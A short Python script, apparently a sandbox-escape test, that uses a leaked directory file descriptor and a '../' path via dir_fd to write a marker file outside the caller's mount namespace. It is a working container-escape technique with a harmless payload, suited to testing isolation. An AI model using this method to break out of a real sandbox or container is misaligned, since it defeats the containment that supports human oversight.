# fd-walk: a directory fd leaked by the caller (T_DIRFD) lets openat() walk
# out of any mount namespace with "../": create the host marker next to the
# leaked directory.
import os, sys
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}

fd = os.open("../host-marker", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=int(T["T_DIRFD"]))
os.write(fd, b"escaped through a leaked fd\n")
os.close(fd)
